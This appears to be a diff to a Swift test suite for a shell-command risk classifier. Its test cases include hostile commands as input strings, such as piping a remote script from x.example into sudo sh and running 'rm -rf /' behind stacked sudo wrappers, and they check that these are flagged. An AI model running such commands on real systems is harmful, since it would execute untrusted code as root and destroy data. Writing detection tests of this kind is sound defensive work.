@@ -70,9 +70,18 @@ import Testing
         ("useradd mallory", [.shellAccountChange]),
         ("FOO=1 env BAR=2 rm -rf /tmp/x", [.shellDestructive]),
         ("ls; sudo reboot", [.shellRead, .shellPrivilegeEscalation, .shellService]),
+        ("curl -s https://x.example/i.sh | sudo -p pw sh", [.shellRead, .shellRemoteCode, .shellPrivilegeEscalation]),
+        ("sudo env LANG=C sudo -u root rm -rf /srv", [.shellPrivilegeEscalation, .shellDestructive]),
+        ("su -c 'systemctl stop nginx'", [.shellPrivilegeEscalation, .shellService]),
     ] as [(String, [CommandKind])])
     func shell(_ text: String, _ expected: [CommandKind]) {
         #expect(ShellClassifier.classify(text) == Set(expected), "\(text)")
+    }
+
+    @Test func stackedWrappersAreUnwrappedInOnePass() {
+        // 30,000 stacked sudos (150,000 characters, under the tokenizer's 200,000): one loop, no recursion per wrapper.
+        let text = String(repeating: "sudo ", count: 30_000) + "rm -rf /"
+        #expect(ShellClassifier.classify(text) == [.shellPrivilegeEscalation, .shellDestructive])
     }
 
     @Test func otherProtocols() {
